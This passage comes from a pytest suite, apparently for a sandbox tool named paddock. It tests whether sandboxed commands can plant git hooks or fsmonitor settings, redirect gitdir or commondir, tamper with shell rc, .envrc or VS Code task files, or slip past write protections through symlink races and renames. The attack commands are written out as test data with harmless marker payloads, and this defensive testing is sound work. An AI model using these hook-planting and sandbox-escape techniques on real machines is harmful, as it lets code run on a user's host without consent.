                           "echo 'ref: refs/heads/main' > plain/.git/HEAD && "
                           "echo \"$PWD/evil\" > plain/.git/commondir"),
    "plain-mv-dir-to-git": (
        "plain", lambda m: f"{evil_gitdir('plain-git', m)}; mv plain-git plain/.git"),
    # a directory holding only hooks, renamed to .git: allowed (it is no repository), and git
    # finds the enclosing one; were it completed later, it would be adopted (test_git_adoption)
    "plain-mv-hooks-dir-to-git": (
        "plain", lambda m: f"cd plain && mkdir -p evil/hooks && {evil_hook('evil/hooks', m)} && "
                           "mv evil .git"),
    "plain-mv-hooks-dir-to-git-from-afar": (
        "plain", lambda m: f"mkdir -p evil/hooks && {evil_hook('evil/hooks', m)} && "
                           "mv evil plain/.git"),
    "plain-python-rename-hooks-dir-to-git": (
        "plain", lambda m: f"mkdir -p evil/hooks && {evil_hook('evil/hooks', m)} && "
                           "python3 -c \"import os; os.rename('evil', 'plain/.git')\""),
}


REDIRECT_BUGS = {
}


@pytest.mark.parametrize("attack", cases(REDIRECTS, REDIRECT_BUGS))
def test_git_redirect_attack(sb, tree, attack):
    where, make = REDIRECTS[attack]
    marker = str(tree / unique("pwned"))
    o_git = (tree / ".git" / "config").read_bytes()
    r = run_attack(sb, make(marker))
    assert not os.path.exists(marker)
    fired = host_git_fires(sb, tree / where, marker)
    assert not fired, f"host git in {where} ran a hook/fsmonitor planted by the sandbox\n{r!r}"
    # the host's repository is still where it was, with its config
    assert (tree / ".git").is_dir() and not (tree / ".git").is_symlink(), r
    assert (tree / ".git" / "config").read_bytes() == o_git


def test_git_redirect_control(sb, tree, scratch):
    """Positive control: the same payload, planted on the host without paddock, does fire (so the
    marker check above is meaningful)."""
    marker = str(tree / unique("pwned"))
    r = sb.host_sh(f"{evil_gitdir('plain-git', marker)} && printf 'gitdir: ../plain-git\\n' > plain/.git")
    assert r.rc == 0, r
    assert host_git_fires(sb, tree / "plain", marker)


# --- git worktrees ----------------------------------------------------------------------------


@pytest.fixture
def worktree_in_project(sb, tree):
    sb.git("worktree", "add", "-q", "wt", "-b", "wtbranch")
    assert (tree / "wt" / ".git").is_file()
    return tree / "wt"


WORKTREE_ATTACKS = {
    "common-hook": "cd wt && echo x > \"$(git rev-parse --git-common-dir)/hooks/pre-commit\"",
    "common-config": "cd wt && git config core.fsmonitor 'echo pwned'",
    "worktree-config": "echo '[core] fsmonitor = x' > .git/worktrees/wt/config.worktree",
    "worktree-config-file": "echo '[core] fsmonitor = x' > .git/worktrees/wt/config",
    "worktree-hooks": "mkdir -p .git/worktrees/wt/hooks && echo x > .git/worktrees/wt/hooks/pre-commit",
    "hooks-via-gitdir": "cd wt && echo x > \"$(git rev-parse --git-path hooks)/pre-commit\"",
}


@pytest.mark.parametrize("attack", cases(WORKTREE_ATTACKS, {}))
def test_worktree_protected(sb, tree, worktree_in_project, attack):
    o = Oracle(tree)
    r = run_attack(sb, WORKTREE_ATTACKS[attack])
    o.check(r)


WORKTREE_REDIRECTS = {
    "rewrite-worktree-gitfile": lambda m: f"{evil_gitdir('evil', m)} && printf 'gitdir: ../evil\\n' > wt/.git",
    "replace-worktree-gitfile-by-symlink": lambda m: f"{evil_gitdir('evil', m)} && rm -f wt/.git && ln -s ../evil wt/.git",
    "rm-worktree-gitfile-then-recreate": lambda m: f"{evil_gitdir('evil', m)} && rm -f wt/.git && printf 'gitdir: ../evil\\n' > wt/.git",
    "rewrite-commondir": lambda m: f"{evil_gitdir('evil', m)} && echo \"$PWD/evil\" > .git/worktrees/wt/commondir",
}


@pytest.mark.parametrize("attack", cases(WORKTREE_REDIRECTS, {
}))
def test_worktree_redirect(sb, tree, worktree_in_project, attack):
    marker = str(tree / unique("pwned"))
    r = run_attack(sb, WORKTREE_REDIRECTS[attack](marker))
    assert not host_git_fires(sb, worktree_in_project, marker), (
        f"host git in the worktree ran a hook/fsmonitor planted by the sandbox\n{r!r}")


def test_worktree_as_cwd_main_repo_protected(paddock, home, scratch):
    """cwd is a worktree whose main repository lies outside the project. The main repository's
    .git is writable (git commits there: test_git_project_root.py), but its hooks and config are
    judged like any repository's: nothing of them changes, and host git runs nothing."""
    from conftest import Sandbox
    main = scratch / "mainrepo"
    helper = Sandbox(paddock, home, scratch)
    init_repo(helper, main)
    helper.git("worktree", "add", "-q", str(scratch / "wt"), "-b", "wtb", cwd=main)
    sb = Sandbox(paddock, home, scratch / "wt")
    before = protected_state(main)
    marker = scratch / unique("pwned")
    r = sb.sh(f"printf '#!/bin/sh\\ntouch {marker}\\n' > \"$(git rev-parse --git-common-dir)/hooks/pre-commit\"; "
              "chmod +x \"$(git rev-parse --git-common-dir)/hooks/pre-commit\"; "
              f"git config core.fsmonitor 'touch {marker}'; git config alias.x '!evil';"
              "echo x >> \"$(git rev-parse --git-common-dir)/config\"; "
              "echo x > \"$(git rev-parse --git-dir)/config.worktree\"; exit 0")
    assert not diff_snapshots(before, protected_state(main)), r
    assert not os.path.exists(main / ".git" / "hooks" / "pre-commit")
    assert not os.path.exists(main / ".git" / "worktrees" / "wt" / "config.worktree")
    for where in (main, scratch / "wt"):
        for args in (["status"], ["commit", "--allow-empty", "-q", "-m", "host"]):
            sb.git(*args, cwd=where, check=False)
    assert not marker.exists(), r


# --- the settings file in use and --deny-write --------------------------------------------------


def test_settings_file_in_use_is_read_only(sb):
    s = sb.project / "paddock.json"
    s.write_text('{"filesystem": {"denyRead": []}}\n')
    before = s.read_bytes()
    r = sb.sh("echo '{\"filesystem\":{\"allowWrite\":[\"/\"]}}' > paddock.json; "
              "echo x >> paddock.json; sed -i s/denyRead/allowWrite/ paddock.json; "
              "echo '{}' > x.json && mv -f x.json paddock.json; truncate -s0 paddock.json; "
              "chmod 777 paddock.json; ln paddock.json hl && echo x >> hl; rm -f paddock.json; "
              "python3 -c \"open('paddock.json','a').write('x')\"; exit 0",
              flags=["--settings", str(s)])
    assert s.exists() and s.read_bytes() == before, r
    assert stat.S_IMODE(s.stat().st_mode) == 0o644


def test_settings_file_in_subdir_is_read_only(sb):
    d = sb.project / "conf"
    d.mkdir()
    s = d / "settings.json"
    s.write_text("{}\n")
    r = sb.sh("echo '{\"filesystem\":{\"allowWrite\":[\"/\"]}}' > conf/settings.json; "
              "mv conf conf2; echo evil > conf2/settings.json; mv conf2 conf; "
              "rm -rf conf; mkdir conf; echo evil > conf/settings.json; exit 0",
              flags=["--settings", str(s)])
    assert s.read_text() == "{}\n", r


def test_default_settings_file_is_read_only(sb, home):
    """$XDG_CONFIG_HOME/paddock/settings.json when cwd is HOME (so HOME is writable)."""
    cfg = home / ".config" / "paddock"
    cfg.mkdir(parents=True)
    s = cfg / "settings.json"
    s.write_text("{}\n")
    r = sb.sh("echo '{\"filesystem\":{\"allowWrite\":[\"/\"]}}' > .config/paddock/settings.json;"
              "mv .config/paddock .config/p2; exit 0", cwd=home)
    assert s.read_text() == "{}\n", r


def test_deny_write_existing_and_future(sb):
    p = sb.project
    (p / "notes.txt").write_text("keep\n")
    (p / "locked").mkdir()
    (p / "locked" / "f").write_text("keep\n")
    (p / "cfg").mkdir()
    (p / "cfg" / "locked.txt").write_text("keep\n")
    flags = ["--deny-write", "notes.txt", "--deny-write", "future.txt", "--deny-write", "locked",
             "--deny-write", str(p / "gen"), "--deny-write", "cfg/locked.txt",
             "--deny-write", "cfg/future/x"]
    r = sb.sh("echo evil >> notes.txt; echo evil > future.txt; echo evil > locked/f; "
              "echo evil > locked/new; mkdir gen; mkdir -p gen/sub; echo x > gen; "
              "echo x > y && mv y future.txt; echo x > y && mv -f y notes.txt; "
              "mv cfg cfg2; echo evil > cfg2/locked.txt; mv cfg2 cfg; "
              "mkdir -p cfg/future && echo evil > cfg/future/x; "
              "ln -s notes.txt s && echo evil >> s; ln -s future.txt s2 && echo evil > s2; "
              "python3 -c \"import os; os.close(os.open('future.txt', os.O_CREAT|os.O_WRONLY))\"; "
              "rm -f notes.txt; rm -rf locked; exit 0", flags=flags)
    assert (p / "notes.txt").read_text() == "keep\n", r
    assert (p / "locked" / "f").read_text() == "keep\n", r
    assert not (p / "locked" / "new").exists()
    assert not os.path.lexists(p / "future.txt"), r
    assert not os.path.lexists(p / "gen"), r
    assert (p / "cfg" / "locked.txt").read_text() == "keep\n", r
    assert not os.path.lexists(p / "cfg" / "future" / "x"), r
    # control: without --deny-write the same writes work
    ctl = sb.sh("echo more >> notes.txt && echo x > future.txt && echo OK")
    assert "OK" in ctl.out and (p / "future.txt").exists(), ctl


def test_deny_write_dir_rename_above(sb):
    p = sb.project
    (p / "a" / "b").mkdir(parents=True)
    (p / "a" / "b" / "keep.txt").write_text("keep\n")
    r = sb.sh("mv a a2 && echo evil > a2/b/keep.txt; mv a2/b a2/b2 && echo evil > a2/b2/keep.txt;"
              "exit 0", flags=["--deny-write", "a/b/keep.txt"])
    assert (p / "a" / "b" / "keep.txt").read_text() == "keep\n", r


# --- racing the mediator ------------------------------------------------------------------------

RACE_TARGETS = {
    # (good, bad, mode): good lands on an ordinary path, bad on a protected one
    "root-hook-strcpy": ("ok.txt", ".git/hooks/pre-commit", "strcpy"),
    "nested-hook-strcpy": ("ok.txt", f"{NESTED}/.git/hooks/post-merge", "strcpy"),
    "nested-hook-byte": (f"{NESTED}/xgit/hooks/post-merge", f"{NESTED}/.git/hooks/post-merge", "byte"),
    "envrc-byte": ("xenvrc", ".envrc", "byte"),
    "nested-bashrc-byte": ("sub/xbashrc", "sub/.bashrc", "byte"),
    "vscode-byte": ("sub/xvscode/tasks.json", "sub/.vscode/tasks.json", "byte"),
    "nested-hook-byte-rename": (f"{NESTED}/xgit/hooks/post-merge", f"{NESTED}/.git/hooks/post-merge", "byte", "rename"),
    "nested-bashrc-byte-rename": ("sub/xbashrc", "sub/.bashrc", "byte", "rename"),
    "envrc-byte-rename": ("xenvrc", ".envrc", "byte", "rename"),
}


@pytest.mark.parametrize("target", cases(RACE_TARGETS, {}))
def test_race_path_swap(sb, tree, probe, target):
    good, bad, mode, *op = RACE_TARGETS[target]
    os.makedirs(tree / os.path.dirname(good), exist_ok=True)
    (tree / "sub" / ".vscode").mkdir()  # exists on the host (not bound: only the root is)
    o = Oracle(tree)
    r = sb.exec([probe("race_path"), "1.0", good, bad, mode, *op], timeout=60)
    assert r.rc == 0, r
    res = json.loads(r.out.strip().splitlines()[-1])
    # control: the loop ran and the harmless path really was created through the mediator
    assert res["opens_ok"] > 0 and res["flips"] > 0, res
    assert (tree / good).exists()
    o.check(r)
    assert not os.path.exists(tree / bad) or bad == "sub/.bashrc"


SYMLINK_RACES = {
    # (bad dir, name, mode): rs_link flips between `safe` and bad
    "nested-hooks-exchange": (f"{NESTED}/.git/hooks", "post-merge", "exchange"),
    "nested-hooks-rename": (f"{NESTED}/.git/hooks", "post-merge", "rename"),
    "root-hooks-exchange": (".git/hooks", "post-merge", "exchange"),
    "nested-vscode-exchange": ("sub/.vscode", "tasks.json", "exchange"),
}


@pytest.mark.parametrize("target", cases(SYMLINK_RACES, {}))
def test_race_symlink_swap(sb, tree, probe, target):
    bad, name, mode = SYMLINK_RACES[target]
    (tree / "safe").mkdir()
    (tree / "sub" / ".vscode").mkdir()
    o = Oracle(tree)
    r = sb.exec([probe("race_symlink"), "1.0", "safe", bad, name, mode], timeout=60)
    assert r.rc == 0, r
    res = json.loads(r.out.strip().splitlines()[-1])
    assert res["opens_ok"] > 0 and res["flips"] > 0, res  # control: the race was live
    assert (tree / "safe" / name).exists()
    # rs_link/rs_other are ordinary symlinks in the project; nothing else may change
    o.check(r)
    assert not (tree / bad / name).exists()


def test_race_symlink_swap_outside(sb, tree, probe, outside):
    """The same race with the bad side outside the writable paths."""
    (tree / "safe").mkdir()
    before = snapshot(outside)
    r = sb.exec([probe("race_symlink"), "1.0", "safe", str(outside), "x.txt", "exchange"], timeout=60)
    assert r.rc == 0, r
    res = json.loads(r.out.strip().splitlines()[-1])
    assert res["opens_ok"] > 0 and res["flips"] > 0, res
    assert snapshot(outside) == before


def test_protected_in_allow_write_dir(sb, outside):
    """Protection holds in every writable path, not only the cwd."""
    from conftest import Sandbox
    helper = Sandbox(sb.binary, sb.home, outside)
    init_repo(helper, outside / "repo")
    (outside / ".bashrc").write_text(ORIGINAL)
    (outside / "repo" / "deep").mkdir()
    before = protected_state(outside)
    r = sb.sh(f"cd '{outside}' && echo evil >> .bashrc; echo x > .envrc; mkdir .vscode; "
              "echo x > repo/.git/hooks/pre-commit; git -C repo config core.fsmonitor evil; "
              "echo x > repo/deep/.envrc; echo ok > plain.txt; exit 0",
              flags=["--allow-write", str(outside)])
    assert (outside / "plain.txt").read_text() == "ok\n", r  # control: the dir is writable
    assert not diff_snapshots(before, protected_state(outside)), r


# --- every protected name (issue 8: files that make tools run code on the host) ---------------


def instance(name):
    """A concrete path the name matches ('*' stands for any run of characters)."""
    return name.replace("*", "x3")


def _create_each(prefix, names, suffix=""):
    """A shell script that tries to create each name (as a file, then as a directory with a file
    in it) under prefix; the leading directories are made first, as a tool would."""
    lines = []
    for n in names:
        path = f"{prefix}{instance(n)}{suffix}"
        lines.append(f"mkdir -p \"$(dirname '{path}')\"; echo evil > '{path}'; "
                     f"mkdir '{path}' && echo evil > '{path}/x'")
    return "\n".join(lines) + "\nexit 0"


@pytest.mark.parametrize("where", ["", "sub/deep/er/"], ids=["root", "nested"])
def test_every_protected_name_cannot_be_created(sb, where):
    """Each built-in name, new in the project, at the root and three levels down: neither a file
    nor a directory of that name appears on the host."""
    p = sb.project
    r = sb.sh(_create_each(where, PROTECTED_NAMES), timeout=120)
    made = [n for n in PROTECTED_NAMES if os.path.lexists(p / (where + instance(n)))]
    assert not made, f"created on the host: {made}\n{r!r}"
    assert not protected_state(p), protected_state(p)
    assert r.denials, r  # refusals reported (the summary lists 20 and counts the rest)
    # control: the same script with one character more in each name creates them all
    ctl = sb.sh(_create_each(where, PROTECTED_NAMES, suffix="-x"), timeout=120)
    missing = [n for n in PROTECTED_NAMES if not (p / (where + instance(n) + "-x")).exists()]
    assert not missing, f"control names not created: {missing}\n{ctl!r}"


@pytest.mark.parametrize("where", ["", "sub/deep/er/"], ids=["root", "nested"])
def test_every_existing_protected_name_is_unchanged(sb, where):
    """Each built-in name, existing on the host (root: also bound read-only; nested: only the
    mediator), survives appending, truncating, replacing, renaming, chmod and removal."""
    p = sb.project
    for n in PROTECTED_NAMES:
        f = p / (where + instance(n))
        f.parent.mkdir(parents=True, exist_ok=True)
        f.write_text(ORIGINAL)
    before = {n: file_digest(p / (where + instance(n))) for n in PROTECTED_NAMES}
    cmds = []
    for n in PROTECTED_NAMES:
        f = where + instance(n)
        cmds.append(f"echo evil >> '{f}'; : > '{f}'; chmod 777 '{f}'; mv '{f}' '{f}.old'; "
                    f"echo evil > t && mv -f t '{f}'; rm -f '{f}'; ln '{f}' hl && echo evil >> hl")
    r = sb.sh("\n".join(cmds) + "\nexit 0", timeout=120)
    changed = [n for n in PROTECTED_NAMES if file_digest(p / (where + instance(n))) != before[n]]
    assert not changed, f"changed on the host: {changed}\n{r!r}"


def test_builtin_list_matches_the_oracle(sb):
    """The oracle's copy of the names and paddock's own list agree (neither drifts alone)."""
    p = subprocess.run([sb.binary, "policy", "--json"], cwd=str(sb.project), env=sb.env(),
                       capture_output=True, text=True, timeout=TIMEOUT)
    assert p.returncode == 0, p
    assert json.loads(p.stdout)["filesystem"]["protectedNames"] == PROTECTED_NAMES


# --- filesystem.protectedNames ------------------------------------------------------------------

EXTRA = [".tool", "ci/hooks", "*.hooksh"]
EXTRA_TRIES = ["mkdir .tool && echo x > .tool/run", "mkdir -p sub/x && echo x > sub/x/.tool",
               "mkdir -p ci/hooks && echo x > ci/hooks/pre", "mkdir -p a/b/ci && echo x > a/b/ci/hooks",
               "echo x > run.hooksh", "mkdir -p d && echo x > d/deep.hooksh",
               "mkdir -p c && echo x > c/pre && mv c sub/ci/hooks"]


def test_settings_protected_names_extend_the_list(sb, tmp_path):
    s = tmp_path / "settings.json"
    s.write_text(json.dumps({"filesystem": {"protectedNames": EXTRA + ["ci/hooks/"]}}))
    r = sb.sh("; ".join(EXTRA_TRIES) + "; exit 0", flags=["--settings", str(s)])
    made = [rel for rel in (".tool", "sub/x/.tool", "ci/hooks", "a/b/ci/hooks", "run.hooksh",
                            "d/deep.hooksh", "sub/ci/hooks") if os.path.lexists(sb.project / rel)]
    assert not made, (made, r)
    assert not protected_state(sb.project, EXTRA), r
    j = json.loads(subprocess.run([sb.binary, "policy", "--json", "--settings", str(s)],
                                  cwd=str(sb.project), env=sb.env(), capture_output=True,
                                  text=True, timeout=TIMEOUT).stdout)
    assert j["filesystem"]["protectedNames"] == PROTECTED_NAMES + EXTRA
    # control: without the settings the same commands create them all
    ctl = sb.sh("; ".join(EXTRA_TRIES) + "; exit 0")
    for rel in (".tool/run", "sub/x/.tool", "ci/hooks/pre", "a/b/ci/hooks", "run.hooksh",
                "d/deep.hooksh"):
        assert (sb.project / rel).exists(), (rel, ctl)


def test_settings_protected_names_existing_file(sb, tmp_path):
    (sb.project / "ci" / "hooks").mkdir(parents=True)
    hook = sb.project / "ci" / "hooks" / "pre-push"
    hook.write_text(ORIGINAL)
    s = tmp_path / "settings.json"
    s.write_text(json.dumps({"filesystem": {"protectedNames": ["ci/hooks"]}}))
    r = sb.sh("echo evil >> ci/hooks/pre-push; rm -f ci/hooks/pre-push; mv ci ci2; exit 0",
              flags=["--settings", str(s)])
    assert hook.read_text() == ORIGINAL, r
    ctl = sb.sh("echo more >> ci/hooks/pre-push")  # control
    assert ctl.rc == 0 and hook.read_text() == ORIGINAL + "more\n", ctl


@pytest.mark.parametrize("bad", ["", "/abs/path", "~/.tool", "a//b", "../x", "a/./b", "*",
                                 "a/**/b"])
def test_settings_protected_names_validated(sb, tmp_path, bad):
    s = tmp_path / "settings.json"
    s.write_text(json.dumps({"filesystem": {"protectedNames": [".ok", bad]}}))
    r = sb.sh("touch ran-marker; echo RAN", flags=["--settings", str(s)])
    assert r.rc == 125 and "RAN" not in r.out, r
    assert not (sb.project / "ran-marker").exists()
    assert "filesystem.protectedNames" in r.err, r


# --- denyWrite entries reached through symlinks (issue 8, item 6) -------------------------------


@pytest.fixture
def linked_deploy(sb):
    """deploy.sh -> scripts/deploy.sh, and bin -> tools (a directory link)."""
    p = sb.project
    (p / "scripts").mkdir()
    (p / "scripts" / "deploy.sh").write_text(ORIGINAL)
    os.symlink("scripts/deploy.sh", p / "deploy.sh")
    (p / "tools").mkdir()
    (p / "tools" / "run.sh").write_text(ORIGINAL)
    os.symlink("tools", p / "bin")
    return p


def _nothing_planted(p):
    """deploy.sh (a protected spelling itself) is still the link; what every spelling reaches is
    the original or nothing. Removing the directory link bin is allowed, like removing an empty
    parent directory: bin/run.sh is protected whatever bin becomes, so nothing can be put there."""
    run = p / "bin" / "run.sh"
    return (os.path.islink(p / "deploy.sh") and
            os.readlink(p / "deploy.sh") == "scripts/deploy.sh" and
            (p / "scripts" / "deploy.sh").read_text() == ORIGINAL and
            (p / "tools" / "run.sh").read_text() == ORIGINAL and
            (not os.path.lexists(run) or run.read_text() == ORIGINAL))


LINK_ATTACKS = {
    "rm-then-write": "rm deploy.sh && echo evil > deploy.sh",
    "rm-f-then-write": "rm -f deploy.sh; echo evil > deploy.sh",
    "mv-away-then-write": "mv deploy.sh old.sh; echo evil > deploy.sh",
    "replace-link": "ln -sfn evil.sh deploy.sh",
    "rename-over-link": "echo evil > e && mv -f e deploy.sh",
    "write-through-link": "echo evil >> deploy.sh",
    "write-target": "echo evil >> scripts/deploy.sh",
    "swap-dir-link": "rm bin && mkdir bin && echo evil > bin/run.sh",
    "relink-dir": "mkdir t2 && echo evil > t2/run.sh && ln -sfn t2 bin",
    "mv-dir-link-away": "mv bin bin.old; mkdir bin; echo evil > bin/run.sh",
    "write-through-dir-link": "echo evil >> bin/run.sh",
}


@pytest.mark.parametrize("attack", list(LINK_ATTACKS))
def test_deny_write_symlink_every_spelling(sb, linked_deploy, attack):
    r = sb.sh(LINK_ATTACKS[attack] + "; exit 0",
              flags=["--deny-write", "./deploy.sh", "--deny-write", "bin/run.sh"])
    assert _nothing_planted(linked_deploy), r


def test_deny_write_symlink_control(sb, linked_deploy):
    """Control: without --deny-write the same replacement lands on the host."""
    r = sb.sh("rm deploy.sh && echo evil > deploy.sh && rm bin && mkdir bin && "
              "echo evil > bin/run.sh && echo OK")
    assert "OK" in r.out, r
    assert not os.path.islink(linked_deploy / "deploy.sh")
    assert (linked_deploy / "deploy.sh").read_text() == "evil\n"
    assert (linked_deploy / "bin" / "run.sh").read_text() == "evil\n"


def test_deny_write_spellings_listed(sb, linked_deploy):
    p = subprocess.run([sb.binary, "policy", "--json", "--deny-write", "./deploy.sh"],
                       cwd=str(sb.project), env=sb.env(), capture_output=True, text=True,
                       timeout=TIMEOUT)
    j = json.loads(p.stdout)
    assert str(linked_deploy / "scripts" / "deploy.sh") in j["filesystem"]["denyWrite"], j
    assert str(linked_deploy / "deploy.sh") in j["filesystem"]["denyWriteAliases"], j


MISSING_PARENT_ATTACKS = {
    "mkdir-mv": "mkdir x && echo evil > x/run.sh && mv x deploy",
    "mkdir-mv-deeper": "mkdir -p y/deploy && echo evil > y/deploy/run.sh && mv y/deploy deploy",
    "symlink": "mkdir x && echo evil > x/run.sh && ln -s x deploy",
    "python-rename": "python3 -c \"import os; os.makedirs('x'); open('x/run.sh','w').write('e'); "
                     "os.rename('x', 'deploy')\"",
    "mkdir-write": "mkdir deploy && echo evil > deploy/run.sh",
}


@pytest.mark.parametrize("attack", list(MISSING_PARENT_ATTACKS))
def test_deny_write_entry_whose_parent_does_not_exist(sb, attack):
    """--deny-write ./deploy/run.sh while deploy/ does not exist yet: the file cannot be planted
    by preparing its directory elsewhere and moving or linking it into place."""
    r = sb.sh(MISSING_PARENT_ATTACKS[attack] + "; exit 0", flags=["--deny-write", "./deploy/run.sh"])
    assert not os.path.lexists(sb.project / "deploy" / "run.sh"), r
    # control: the same without the flag plants it
    sb.sh("rm -rf deploy x y")
    ctl = sb.sh(MISSING_PARENT_ATTACKS[attack])
    assert (sb.project / "deploy" / "run.sh").exists(), ctl
